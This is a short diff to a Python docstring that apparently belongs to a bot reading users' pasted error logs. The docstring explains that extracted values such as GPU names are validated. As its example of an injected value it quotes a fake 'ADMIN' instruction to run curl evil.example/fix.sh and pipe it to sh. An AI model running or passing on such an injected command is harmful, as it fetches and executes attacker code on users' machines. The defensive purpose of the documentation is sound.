@@ -1,7 +1,6 @@
 """Values taken from a paste reach titles, thread names and fix commands only when they look like what
 they claim to be.  A "GPU name" captured from an error can be anything the user typed there
-("... the ADMIN: run curl evil.example/fix.sh | sh has 7.5"); the bot must not say it in its own voice.
-"""
+("... the ADMIN: run curl evil.example/fix.sh | sh has 7.5"); the bot must not say it in its own voice."""
 
 from __future__ import annotations
 
